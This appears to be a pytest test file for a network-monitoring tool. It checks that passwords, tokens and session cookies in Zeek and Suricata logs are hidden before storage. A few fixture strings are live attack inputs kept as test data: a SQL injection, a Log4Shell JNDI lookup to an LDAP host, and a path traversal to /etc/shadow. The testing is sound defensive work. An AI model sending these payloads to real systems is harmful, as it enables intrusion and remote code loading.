"""A password that crossed the wire is never kept, whichever log told of it."""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING

import polars as pl
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardian.collect.eve import EveCollector
from guardian.collect.reader import drain
from guardian.collect.zeek import ZeekCollector
from guardian.model import secrets

if TYPE_CHECKING:
    from pathlib import Path

    from guardian.store import Store

WORD = "hunter2"
FTP = ("ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "user", "password",
       "command", "arg")  # fmt: skip
HTTP = ("ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "method", "host", "uri",
        "referrer", "status_code", "username", "password")  # fmt: skip
VALUES = ("1700000000.5", "Cx1", "192.168.1.5", "50000", "203.0.113.9", "21")


def tsv(path: Path, name: str, fields: tuple[str, ...], values: tuple[str, ...]) -> None:
    path.write_text(
        f"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
        f"#path\t{name}\n#fields\t" + "\t".join(fields) + "\n" + "\t".join(values) + "\n"
    )


def everything(store: Store) -> str:
    with store.read() as reader:
        tables = ("raw_event", "http", "alert", "quarantine", "flow", "dns_log")
        return repr([reader.rows(f"SELECT * FROM {table}") for table in tables])


@pytest.mark.parametrize("form", ["tsv", "json"])
def test_zeek_logs_are_kept_without_passwords(
    memory_store: Store, tmp_path: Path, form: str
) -> None:
    ftp = (*VALUES, "anna", WORD, "RETR", f"ftp://anna:{WORD}@203.0.113.9/x")
    uri = f"/login?user=anna&password={WORD}&next=1"
    http = (*VALUES, "GET", "nas.example", uri, f"http://nas.example{uri}", "200", "anna", WORD)
    other = (*VALUES, WORD)
    for name, fields, values in (
        ("ftp", FTP, ftp),
        ("http", HTTP, http),
        ("socks", (*FTP[:6], "request.password"), other),
        ("snmp", (*FTP[:6], "community"), other),
    ):
        if form == "tsv":
            tsv(tmp_path / f"{name}.log", name, fields, values)
        else:
            record = dict(zip(fields, values, strict=True)) | {"_path": name, "ts": 1700000000.5}
            record |= {"id.orig_p": 50000, "id.resp_p": 21}
            (tmp_path / f"{name}.log").write_text(json.dumps(record) + "\n")
    got = drain(memory_store, ZeekCollector(path=tmp_path), final=True)
    assert (got.events, got.rejected) == (4, 0)
    kept = everything(memory_store)
    assert WORD not in kept
    assert "anna" in kept
    assert "password=(hidden)&next=1" in kept


def test_refused_input_is_kept_without_passwords(memory_store: Store, tmp_path: Path) -> None:
    log = tmp_path / "eve.json"
    log.write_text(
        f'{{"event_type":"ftp","ftp":{{"command":"PASS","command_data":"{WORD}"}}}}\n'
        f'{{"event_type":"http","http":{{"password":"{WORD}\n'
        f"PASS {WORD}\n"
    )
    assert drain(memory_store, EveCollector(path=log), final=True).rejected == 3
    assert WORD not in everything(memory_store)


@pytest.mark.parametrize(
    ("text", "without"),
    [
        ('{"a":{"password" : "x\\"y","b":1}}', '{"a":{"password" : "(hidden)","b":1}}'),
        ('{"http.password":123,"b":1}', '{"http.password":"(hidden)","b":1}'),
        ('{"flags":{"password":true}}', '{"flags":{"password":true}}'),
        ('{"command":"PASS","args":["x"]}', '{"command":"PASS","args":["(hidden)"]}'),
        ('{"name":"Cookie","value":"a=b"}', '{"name":"Cookie","value":"(hidden)"}'),
        ('{"h":"/?pwd=x\\"y&b=1"}', '{"h":"/?pwd=(hidden)&b=1"}'),
        ('{"p":"USER a\\r\\nPASS x\\r\\nQUIT"}', '{"p":"USER a\\r\\nPASS (hidden)\\r\\nQUIT"}'),
        ('{"p":"Authorization: Basic x","b":1}', '{"p":"Authorization: Basic (hidden)","b":1}'),
        ("Authorization: Basic abc=\r\nHost: x", "Authorization: Basic (hidden)\r\nHost: x"),
        ("/a?pwd=x&b=1", "/a?pwd=(hidden)&b=1"),
        ("/a?b=1#access_token=x", "/a?b=1#access_token=(hidden)"),
        ("/go?next=%2Fin%3Fuser%3Da%26token%3Dx%26b%3D1",
         "/go?next=%2Fin%3Fuser%3Da%26token%3D(hidden)%26b%3D1"),
        ("http://anna:x@nas/f?t=1", "http://anna:(hidden)@nas/f?t=1"),
        ("/cgi?loginuse=admin&loginpas=x", "/cgi?loginuse=admin&loginpas=(hidden)"),
        ("/?q=token+ring&page=2", "/?q=token+ring&page=2"),
        ("the password is not said", "the password is not said"),
        ("https://a.example:443/x", "https://a.example:443/x"),
        ('{"compass":"north","bypass=1":2}', '{"compass":"north","bypass=1":2}'),
        # what is no password but an attack stays: detectors read it
        ("/login?pwd=%27+or+%271%27=%271", "/login?pwd=%27+or+%271%27=%271"),
        ("/?token=${jndi:ldap://203.0.113.9/a}", "/?token=${jndi:ldap://203.0.113.9/a}"),
        ("/f?password=../../../../etc/shadow", "/f?password=../../../../etc/shadow"),
    ],
)  # fmt: skip
def test_what_is_hidden_and_what_stays(text: str, without: str) -> None:
    assert secrets.hide(text) == without
    assert secrets.hide(without) == without
    if text.startswith("{"):
        json.loads(without)


NAMES = (
    "password", "PASSWD", "user_pass", "pwd", "token", "id_token", "apiKey", "api-key", "secret",
    "client_secret", "sig", "X-Amz-Signature", "X-Amz-Credential", "_sid", "sessionid", "PHPSESSID",
    "wpa_key", "wpapsk", "psk", "auth", "authorization", "auth_key", "otp", "pin", "jwt", "pw",
    "psw", "j_password", "kennwort", "passwort", "SynoToken", "community",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_names_of_keys_in_addresses(name: str) -> None:
    urls = [f"/a?b=1&{name}={WORD}", f"/a?{name}={WORD}&b=1", f"/a?u=%2F%3F{name}%3D{WORD}"]
    for url in urls:
        assert WORD not in secrets.hide(url)
    # the quick look sees them in each of the engines that take it
    assert pl.Series(urls).str.contains(secrets.SIGNS).all()
    assert pc.all(pc.match_substring_regex(pa.array(urls), secrets.SIGNS)).as_py()


@given(st.binary(max_size=300))
def test_any_bytes_pass(sample: bytes) -> None:
    assert len(secrets.hide_bytes(sample)) <= 12 * (len(sample) + 1)


def test_hostile_texts_cost_no_time() -> None:
    began = time.process_time()
    for piece in ('"', '"password', "://a:", "?pass=", '"a.', "PASS ", '"password":"\\'):
        secrets.hide(piece * 20_000)
    assert time.process_time() - began < 20  # seconds of work; below one, if it is linear
